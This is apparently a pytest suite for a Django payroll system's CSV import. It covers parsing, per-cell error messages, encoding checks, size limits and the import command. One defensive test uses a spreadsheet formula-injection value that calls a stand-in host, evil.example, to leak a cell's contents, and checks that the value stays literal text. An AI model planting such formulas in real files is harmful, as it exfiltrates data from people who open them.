"""Importing a payroll period from an external payroll system's CSV file."""

import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.utils import translation

from payroll import importing
from payroll.importing import ImportProblem, parse_payroll_csv
from payroll.lines import Line, PreparedSlip, lines_from_json
from payroll.models import PayPeriod, PayrollRun, Payslip
from tests.factories import EmployeeFactory
from tests.hr.factories import CompensationFactory

pytestmark = pytest.mark.django_db

HEADER = "employee_number,code,label,kind,amount,quantity,rate"


def csv_file(*rows: str, header: str = HEADER, encoding: str = "utf-8") -> bytes:
    return "\r\n".join([header, *rows]).encode(encoding) + b"\r\n"


def problems_of(data: bytes) -> list[tuple[int, str, str]]:
    result = parse_payroll_csv(data)
    assert not result.ok
    assert result.slips == []
    return [(problem.row, problem.column, problem.message) for problem in result.problems]


def only_problem(data: bytes) -> tuple[int, str, str]:
    problems = problems_of(data)
    assert len(problems) == 1, problems
    return problems[0]


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


@pytest.fixture
def emma(db):
    return EmployeeFactory(employee_number="E001")


@pytest.fixture
def oliver(db):
    return EmployeeFactory(employee_number="E002")


# --- A good file ----------------------------------------------------------------------------
def test_a_good_file_gives_one_payslip_per_employee_with_lines_in_file_order(emma, oliver):
    CompensationFactory(employee=oliver, currency="GBP", effective_from=datetime.date(2024, 1, 1))
    data = csv_file(
        "E001,BASE,Base salary,earning,4000.00,,",
        "E002,BASE,Base salary,earning,3500,,",
        "E001,OT,Overtime,earning,12.5,2.5,5.00",
        "E001,TAX,Wage tax,deduction,-1000.10,,",
        "E001,PEN-ER,Pension (employer),employer_contribution,200.00,,",
        "E001,HOL,Holiday hours left,information,0,,",
    )

    result = parse_payroll_csv(data, file_name="october.csv")

    assert result.ok
    assert result.problems == []
    assert result.file_name == "october.csv"
    assert result.line_count == 6
    assert result.slips == [
        PreparedSlip(
            employee_id=emma.pk,
            currency="EUR",
            lines=[
                Line("BASE", "Base salary", "earning", Decimal("4000.00")),
                Line(
                    "OT", "Overtime", "earning", Decimal("12.50"), Decimal("2.5"), Decimal("5.00")
                ),
                Line("TAX", "Wage tax", "deduction", Decimal("-1000.10")),
                Line("PEN-ER", "Pension (employer)", "employer_contribution", Decimal("200.00")),
                Line("HOL", "Holiday hours left", "information", Decimal("0.00")),
            ],
        ),
        PreparedSlip(
            employee_id=oliver.pk,
            currency="GBP",
            lines=[Line("BASE", "Base salary", "earning", Decimal("3500.00"))],
        ),
    ]
    overtime = result.slips[0].lines[1]
    # Amounts are Decimals written with cents; "12.5" only gains its second decimal.
    assert isinstance(overtime.amount, Decimal)
    assert str(overtime.amount) == "12.50"


def test_employees_are_looked_up_with_one_query_for_the_whole_file(django_assert_num_queries):
    people = EmployeeFactory.create_batch(5)
    rows = [
        f"{person.employee_number},{code},{code.title()},earning,100.00,,"
        for person in people
        for code in ("BASE", "BONUS")
    ]
    data = csv_file(*rows)

    # 1. the employees by number, each with their current pay's currency as a subquery
    with django_assert_num_queries(1):
        result = parse_payroll_csv(data)

    assert result.ok
    assert [slip.employee_id for slip in result.slips] == [person.pk for person in people]


def test_the_currency_is_the_current_compensations_not_a_future_ones(emma):
    CompensationFactory(employee=emma, currency="NOK", effective_from=datetime.date(2020, 1, 1))
    CompensationFactory(employee=emma, currency="SEK", effective_from=datetime.date(2099, 1, 1))

    result = parse_payroll_csv(csv_file("E001,BASE,Base salary,earning,100,,"))

    assert result.slips[0].currency == "NOK"


def test_a_currency_column_sets_the_payslips_currency(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,100,USD",
        "E001,BONUS,Bonus,earning,50,",
        header="employee_number,code,label,kind,amount,currency",
    )

    result = parse_payroll_csv(data)

    assert result.ok
    assert result.slips[0].currency == "USD"
    assert len(result.slips[0].lines) == 2


def test_header_names_are_trimmed_and_case_insensitive_in_any_order(emma):
    data = csv_file(
        "Base salary,4000.00,E001,earning,BASE",
        header=" Label ,AMOUNT,Employee_Number , Kind,code",
    )

    result = parse_payroll_csv(data)

    assert result.ok
    assert result.slips[0].lines == [Line("BASE", "Base salary", "earning", Decimal("4000.00"))]


def test_a_file_with_a_byte_order_mark_is_read(emma):
    data = b"\xef\xbb\xbf" + csv_file("E001,BASE,Base salary,earning,4000.00,,")

    result = parse_payroll_csv(data)

    assert result.ok
    assert result.slips[0].lines[0].amount == Decimal("4000.00")


def test_a_semicolon_separated_file_is_read(emma):
    data = csv_file(
        'E001;BASE;"Salaris; vast";earning;4000.00;;',
        '"E001";"OT";"Overwerk, zaterdag";"earning";"12.50";"2";"6.25"',
        header=HEADER.replace(",", ";"),
    )

    result = parse_payroll_csv(data)

    assert result.ok
    assert [line.label for line in result.slips[0].lines] == ["Salaris; vast", "Overwerk, zaterdag"]


def test_blank_rows_are_skipped_but_still_counted(emma):
    data = csv_file("", "E001,BASE,Base salary,earning,4000.00,,", ",,,,,,", "E001,X,,earning,1,,")

    assert problems_of(data) == [(5, "label", "This cell is empty; every line needs one.")]


def test_trailing_zeros_after_the_cents_are_not_rounding(emma):
    result = parse_payroll_csv(csv_file("E001,BASE,Base salary,earning,4000.500,,"))

    assert result.ok
    assert str(result.slips[0].lines[0].amount) == "4000.50"


def test_kind_is_read_regardless_of_case(emma):
    result = parse_payroll_csv(csv_file("E001,BASE,Base salary, Earning ,4000,,"))

    assert result.slips[0].lines[0].kind == "earning"


# --- One test per problem -------------------------------------------------------------------
def test_a_missing_required_column_is_reported_on_the_header(emma):
    data = csv_file("E001,BASE,earning,4000.00", header="employee_number,code,kind,amount")

    assert only_problem(data) == (1, "label", "This required column is missing.")


def test_every_missing_column_is_reported(emma):
    data = csv_file("E001,BASE", header="employee_number,code")

    assert problems_of(data) == [
        (1, "label", "This required column is missing."),
        (1, "kind", "This required column is missing."),
        (1, "amount", "This required column is missing."),
    ]


def test_an_unknown_column_is_reported_once_on_row_1(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,4000.00,x",
        "E001,BONUS,Bonus,earning,100.00,y",
        header="employee_number,code,label,kind,amount,Department",
    )

    row, column, message = only_problem(data)

    assert (row, column) == (1, "Department")
    assert "Unknown column" in message
    assert "employee_number, code, label, kind, amount, quantity, rate, currency" in message


def test_a_column_given_twice_is_reported(emma):
    data = csv_file("E001,BASE,Base salary,earning,1,2", header=HEADER.rsplit(",", 2)[0] + ",code")

    row, column, message = only_problem(data)

    assert (row, column) == (1, "code")
    assert "columns 2 and 6" in message


def test_an_unnamed_column_is_reported(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,1,", header="employee_number,code,label,kind,amount,"
    )

    assert only_problem(data) == (1, "", "Column 6 has no name.")


def test_an_unknown_employee_number_is_reported(emma):
    data = csv_file("E001,BASE,Base salary,earning,1,,", "E999,BASE,Base salary,earning,1,,")

    row, column, message = only_problem(data)

    assert (row, column) == (3, "employee_number")
    assert message == "No employee has the number “E999”."


def test_an_empty_employee_number_is_reported(emma):
    data = csv_file(" ,BASE,Base salary,earning,1,,")

    assert only_problem(data) == (2, "employee_number", "This cell is empty; every line needs one.")


@pytest.mark.parametrize(
    ("cells", "column", "shown"),
    [
        ("12 50,,", "amount", "“12 50”"),
        ("€12.50,,", "amount", "“€12.50”"),
        ("1.234.56,,", "amount", "“1.234.56”"),
        ("1e3,,", "amount", "“1e3”"),
        ("NaN,,", "amount", "“NaN”"),
        ("12.50,two,", "quantity", "“two”"),
        ("12.50,,5%", "rate", "“5%”"),
    ],
)
def test_a_bad_number_names_its_column_and_what_was_found(emma, cells, column, shown):
    problems = problems_of(csv_file(f"E001,BASE,Base salary,earning,{cells}"))

    row, found_column, message = problems[0]
    assert (row, found_column) == (2, column)
    assert message == f"{shown} is not a number; write it like 12.50."


def test_a_decimal_comma_in_a_semicolon_file_says_how_to_write_it(emma):
    data = csv_file("E001;BASE;Base salary;earning;12,50;;", header=HEADER.replace(",", ";"))

    problem = parse_payroll_csv(data).problems[0]

    assert str(problem) == "Row 2, column amount: “12,50” is not a number; write it like 12.50."


def test_an_empty_amount_is_reported(emma):
    data = csv_file("E001,BASE,Base salary,earning, ,,")

    assert only_problem(data) == (2, "amount", "This cell is empty; write a number like 12.50.")


def test_an_amount_with_more_than_two_decimals_is_refused_not_rounded(emma):
    data = csv_file("E001,BASE,Base salary,earning,4000.005,,")

    row, column, message = only_problem(data)

    assert (row, column) == (2, "amount")
    assert "“4000.005” has more than 2 decimals" in message
    assert "not rounded" in message


def test_an_absurdly_large_amount_is_refused(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,12345678901,,", "E001,X,X,earning,-9999999999.99,,"
    )

    row, column, message = only_problem(data)

    assert (row, column) == (2, "amount")
    assert "is too large" in message
    assert "10,000,000,000" in message


def test_a_quantity_with_too_many_digits_is_refused(emma):
    data = csv_file("E001,BASE,Base salary,earning,1,1.1234567,")

    row, column, message = only_problem(data)

    assert (row, column) == (2, "quantity")
    assert "too many digits" in message


def test_an_unknown_kind_lists_the_allowed_kinds(emma):
    data = csv_file("E001,BASE,Base salary,bonus,1,,")

    row, column, message = only_problem(data)

    assert (row, column) == (2, "kind")
    assert message == (
        "“bonus” is not a kind of line; use one of: "
        "earning, deduction, employer_contribution, information."
    )


@pytest.mark.parametrize(
    ("row", "column"),
    [("E001,,Base salary,earning,1,,", "code"), ("E001,BASE,  ,earning,1,,", "label")],
)
def test_an_empty_code_or_label_is_reported(emma, row, column):
    assert only_problem(csv_file(row)) == (2, column, "This cell is empty; every line needs one.")


def test_a_code_of_20_characters_is_fine_and_21_is_too_long(emma):
    data = csv_file(
        f"E001,{'A' * 20},Base salary,earning,1,,", f"E001,{'B' * 21},Bonus,earning,1,,"
    )

    row, column, message = only_problem(data)

    assert (row, column) == (3, "code")
    assert "is 21 characters long; at most 20 are allowed" in message


def test_a_label_of_100_characters_is_fine_and_101_is_too_long(emma):
    data = csv_file(f"E001,BASE,{'a' * 100},earning,1,,", f"E001,BONUS,{'é' * 101},earning,1,,")

    row, column, message = only_problem(data)

    assert (row, column) == (3, "label")
    assert "is 101 characters long; at most 100 are allowed" in message
    # The message quotes the start of the value, not all of it.
    assert f"“{'é' * 40}…”" in message


@pytest.mark.parametrize(
    ("label", "code_point"),
    [
        ("Base\tsalary", "U+0009"),
        ("Base\x1b[31msalary", "U+001B"),
        ("Base\u202esalary", "U+202E"),
        ('"Base\nsalary"', "U+000A"),
    ],
)
def test_control_characters_in_text_are_refused(emma, label, code_point):
    row, column, message = only_problem(csv_file(f"E001,BASE,{label},earning,1,,"))

    assert (row, column) == (2, "label")
    assert f"contains a control character ({code_point})" in message
    # The message shows the character as an escape, never as the raw control code.
    assert "\x1b" not in message
    assert "\t" not in message


def test_a_code_given_twice_for_one_employee_names_the_earlier_row(emma, oliver):
    data = csv_file(
        "E001,BASE,Base salary,earning,1,,",
        "E002,BASE,Base salary,earning,1,,",
        "E001,BONUS,Bonus,earning,1,,",
        "E001,BASE,Base salary again,earning,1,,",
    )

    row, column, message = only_problem(data)

    assert (row, column) == (5, "code")
    assert message == (
        "Employee E001 already has a line with code “BASE” on row 2; "
        "each code may appear once per person."
    )


def test_a_row_with_the_wrong_number_of_fields_is_reported_once(emma):
    data = csv_file("E001,BASE,Base salary,earning,1,,", "E001,BONUS,Bonus,earning,1,50,,")

    row, column, message = only_problem(data)

    assert (row, column) == (3, "")
    assert "This row has 8 fields but the header has 7" in message


def test_an_empty_file_is_reported():
    assert only_problem(b"") == (
        1,
        "",
        "The file is empty; it needs a header row and at least one line.",
    )
    assert only_problem(b"\xef\xbb\xbf \r\n") == only_problem(b"")


def test_a_file_with_only_a_header_is_reported(emma):
    assert only_problem(csv_file()) == (1, "", "The file has a header row but no lines under it.")
    assert only_problem(csv_file(",,,,,,", "")) == only_problem(csv_file())


def test_a_file_with_more_than_200000_rows_is_refused(emma):
    data = csv_file(*(["E001,BASE,Base salary,earning,1,,"] * 200_001))

    row, column, message = only_problem(data)

    assert (row, column) == (200_002, "")
    assert "more than 200,000 lines" in message


def test_a_file_at_the_row_limit_is_read(emma, monkeypatch):
    monkeypatch.setattr(importing, "MAX_ROWS", 3)
    lines = [f"E001,C{n},Line {n},earning,1,," for n in range(4)]

    assert parse_payroll_csv(csv_file(*lines[:3])).ok
    assert only_problem(csv_file(*lines))[0] == 5


def test_a_currency_that_is_not_a_code_is_reported(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,1,euro",
        header="employee_number,code,label,kind,amount,currency",
    )

    assert only_problem(data) == (
        2,
        "currency",
        "“euro” is not a currency code; write three letters, such as EUR.",
    )


def test_two_currencies_for_one_person_are_reported(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,1,EUR",
        "E001,BONUS,Bonus,earning,1,usd",
        header="employee_number,code,label,kind,amount,currency",
    )

    row, column, message = only_problem(data)

    assert (row, column) == (3, "currency")
    assert "“USD” differs from “EUR” on row 2" in message


# --- Several problems, all or nothing --------------------------------------------------------
def test_a_file_with_several_problems_reports_every_one_sorted_by_row(emma, oliver):
    data = csv_file(
        "E001,BASE,Base salary,earning,4000.00,,,",
        "E777,BASE,,earning,12,50,,",
        "E002,BASE,Base salary,wage,1.005,x,,",
        "E001,BASE,Base salary,earning,1,,,",
        "E002,,Bonus,earning,100,,,",
        "E002,X,Y,earning,1,,",
        header=HEADER + ",notes",
    )

    problems = problems_of(data)

    assert [(row, column) for row, column, _message in problems] == [
        (1, "notes"),
        (3, "employee_number"),
        (3, "label"),
        (4, "kind"),
        (4, "amount"),
        (4, "quantity"),
        (5, "code"),
        (6, "code"),
        (7, ""),
    ]
    messages = [message for _row, _column, message in problems]
    assert "“E777”" in messages[1]
    assert "“wage”" in messages[3]
    assert "more than 2 decimals" in messages[4]
    assert "“x” is not a number" in messages[5]
    assert "on row 2" in messages[6]
    assert "7 fields" in messages[8]


def test_one_bad_row_among_good_ones_yields_no_payslips(emma, oliver):
    data = csv_file(
        "E001,BASE,Base salary,earning,4000.00,,",
        "E002,BASE,Base salary,earning,3500.00,,",
        "E002,BONUS,Bonus,earning,1.001,,",
    )

    result = parse_payroll_csv(data)

    assert not result.ok
    assert result.slips == []
    assert result.line_count == 0
    assert [problem.row for problem in result.problems] == [4]


# --- Encodings and hostile input ------------------------------------------------------------
def test_latin_1_bytes_are_refused_with_their_offset_and_row(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,1,,",
        "E001,VAC,Vakantiegeld één,earning,1,,",
        encoding="latin-1",
    )

    row, column, message = only_problem(data)

    offset = data.index(b"\xe9")
    assert (row, column) == (3, "")
    assert message.startswith("The file is not UTF-8 text")
    assert f"the byte at offset {offset} (0xE9)" in message
    assert "CSV UTF-8" in message


def test_a_utf_16_file_is_refused_rather_than_guessed(emma):
    data = csv_file("E001,BASE,Base salary,earning,1,,", encoding="utf-16")

    row, column, message = only_problem(data)

    assert (row, column) == (1, "")
    assert "not UTF-8 text" in message


def test_a_formula_looking_label_stays_literal_text(emma):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data = csv_file(
        f'E001,BASE,"{formula.replace(chr(34), chr(34) * 2)}",earning,1,,',
        "E001,X,@SUM(1+1),earning,1,,",
    )

    result = parse_payroll_csv(data)

    assert result.ok
    assert [line.label for line in result.slips[0].lines] == [formula, "@SUM(1+1)"]


def test_a_formula_in_a_number_cell_is_not_a_number(emma):
    row, column, message = only_problem(csv_file("E001,BASE,Base salary,earning,=1+1,,"))

    assert (row, column) == (2, "amount")
    assert "“=1+1” is not a number" in message


def test_a_very_long_label_is_refused_with_a_short_quote(emma):
    data = csv_file(f"E001,BASE,{'x' * 100_000},earning,1,,")

    row, column, message = only_problem(data)

    assert (row, column) == (2, "label")
    assert "is 100000 characters long" in message
    assert len(message) < 200


def test_a_line_too_long_for_csv_stops_the_check_at_that_row(emma):
    data = csv_file(
        "E001,BASE,Base salary,earning,1,,",
        f"E001,X,{'x' * 200_000},earning,1,,",
        "E001,Y,Y,earning,1,,",
    )

    row, column, message = only_problem(data)

    assert (row, column) == (3, "")
    assert "cannot be read as CSV" in message
    assert "nothing after it was checked" in message


def test_broken_quoting_is_reported(emma):
    data = csv_file('E001,BASE,"Base "salary",earning,1,,')

    row, column, message = only_problem(data)

    assert (row, column) == (2, "")
    assert "cannot be read as CSV" in message


def test_nul_bytes_are_refused_as_control_characters(emma):
    data = csv_file("E001,BASE,Base\x00salary,earning,1,,", "E0\x0001,BONUS,Bonus,earning,1,,")

    problems = problems_of(data)

    assert [(row, column) for row, column, _message in problems] == [
        (2, "label"),
        (3, "employee_number"),
    ]
    assert all("U+0000" in message and "\x00" not in message for *_cells, message in problems)


def test_a_problem_reads_as_a_sentence():
    assert str(ImportProblem(7, "amount", "Bad.")) == "Row 7, column amount: Bad."
    assert str(ImportProblem(3, "", "Bad.")) == "Row 3: Bad."


# --- The command ----------------------------------------------------------------------------
def import_file(tmp_path, data: bytes, *arguments: str) -> tuple[str, str]:
    path = tmp_path / "october.csv"
    path.write_bytes(data)
    out, err = io.StringIO(), io.StringIO()
    call_command("payroll_import", str(path), *arguments, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_the_command_prints_every_problem_and_changes_nothing(tmp_path, emma):
    data = csv_file("E001,BASE,Base salary,earning,4000.00,,", "E001,TAX,Tax,tax,1.001,,")
    path = tmp_path / "october.csv"
    path.write_bytes(data)
    err = io.StringIO()

    with pytest.raises(CommandError, match=r"october\.csv: 2 problems; nothing was imported"):
        call_command("payroll_import", str(path), "--period", "2026-10", stderr=err)

    assert err.getvalue().splitlines() == [
        "Row 3, column kind: “tax” is not a kind of line; use one of: "
        "earning, deduction, employer_contribution, information.",
        "Row 3, column amount: “1.001” has more than 2 decimals; amounts are in cents and are "
        "not rounded on import.",
    ]
    assert not PayPeriod.objects.exists()
    assert not PayrollRun.objects.exists()


def test_the_command_refuses_a_period_that_is_not_a_month(tmp_path, emma):
    with pytest.raises(CommandError, match="is not a pay period"):
        import_file(tmp_path, csv_file("E001,BASE,Base,earning,1,,"), "--period", "2026-13")

    assert not PayPeriod.objects.exists()


def test_the_command_refuses_someone_who_is_not_a_payroll_officer(tmp_path, emma, hr_officer):
    data = csv_file("E001,BASE,Base,earning,1,,")

    with pytest.raises(CommandError, match="is not an active payroll officer"):
        import_file(tmp_path, data, "--period", "2026-10", "--as", hr_officer.email)
    with pytest.raises(CommandError, match=r"No user has the e-mail address nobody@example\.org"):
        import_file(tmp_path, data, "--period", "2026-10", "--as", "nobody@example.org")

    assert not PayrollRun.objects.exists()


def test_the_command_says_when_the_file_cannot_be_read(tmp_path):
    with pytest.raises(CommandError, match=r"Cannot read .*missing\.csv"):
        call_command("payroll_import", str(tmp_path / "missing.csv"), "--period", "2026-10")


def test_a_good_file_fills_the_draft_run(tmp_path, emma, oliver, payroll_officer):
    data = csv_file(
        "E001,BASE,Base salary,earning,4000.00,,",
        "E001,TAX,Wage tax,deduction,1000.00,,",
        "E002,BASE,Base salary,earning,3500.00,,",
    )

    out, err = import_file(tmp_path, data, "--period", "2026-10", "--as", payroll_officer.email)

    assert out.strip() == "Imported 2 payslips with 3 lines into period 2026-10."
    assert err == ""
    run = PayrollRun.objects.get(period__year=2026, period__month=10)
    assert run.is_editable
    assert run.source == PayrollRun.Source.IMPORT
    assert run.source_name == "october.csv"
    assert run.prepared_by == payroll_officer
    assert run.employee_count == 2
    assert run.gross_total == Decimal("7500.00")
    slip = run.payslips.get(employee=emma)
    assert slip.net == Decimal("3000.00")
    assert [(line.code, line.amount) for line in lines_from_json(slip.lines)] == [
        ("BASE", Decimal("4000.00")),
        ("TAX", Decimal("1000.00")),
    ]


def test_importing_again_replaces_what_the_draft_run_held(tmp_path, emma, oliver):
    first = csv_file("E001,BASE,Base salary,earning,4000.00,,", "E002,BASE,Base,earning,1,,")
    import_file(tmp_path, first, "--period", "2026-10")

    second = csv_file("E002,BASE,Base salary,earning,3600,,")
    out, _err = import_file(tmp_path, second, "--period", "2026-10")

    assert out.strip() == "Imported 1 payslip with 1 line into period 2026-10."
    run = PayrollRun.objects.get()
    assert run.prepared_by is None
    assert [slip.employee for slip in run.payslips.all()] == [oliver]
    assert run.payslips.get().gross == Decimal("3600.00")


def test_a_released_run_is_never_changed_by_an_import(
    tmp_path, released_run, employee, payroll_officer
):
    def snapshot():
        run = PayrollRun.objects.get(pk=released_run.pk)
        slips = [
            (slip.pk, slip.version, slip.status, slip.net, slip.lines, slip.pdf_sha256)
            for slip in Payslip.objects.filter(run=run).order_by("pk")
        ]
        return run.status, run.net_total, run.prepared_at, run.source_name, slips

    before = snapshot()
    data = csv_file(f"{employee.employee.employee_number},BASE,Base salary,earning,1.00,,")

    with pytest.raises(CommandError, match="released"):
        import_file(tmp_path, data, "--period", "2026-10", "--as", payroll_officer.email)

    assert snapshot() == before


def test_the_examples_in_the_documentation_import(db):
    """docs/payroll-import.md shows files officers copy; they must stay valid."""
    EmployeeFactory(employee_number="E000123")
    EmployeeFactory(employee_number="E000456")
    text = (Path(__file__).resolve().parents[2] / "docs/payroll-import.md").read_text()
    examples = re.findall(r"```csv\n(.*?)```", text, flags=re.DOTALL)

    results = [parse_payroll_csv(example.encode()) for example in examples]

    assert len(results) == 2
    assert [problem for result in results for problem in result.problems] == []
    assert [result.line_count for result in results] == [8, 2]
    assert [slip.currency for slip in results[1].slips] == ["EUR", "NOK"]


def test_lines_written_for_correction_read_back_unchanged(db):
    from payroll.importing import lines_as_csv, parse_payroll_csv
    from payroll.lines import Line, LineKind
    from tests.factories import EmployeeFactory

    employee = EmployeeFactory()
    lines = [
        Line("BASE", 'Base salary, "senior"', LineKind.EARNING, Decimal("4000.00")),
        Line("OT", "Overtime", LineKind.EARNING, Decimal("150.00"), Decimal("6"), Decimal("25")),
    ]
    result = parse_payroll_csv(lines_as_csv(employee.employee_number, lines).encode())
    assert result.ok, result.problems
    assert result.slips[0].lines == lines
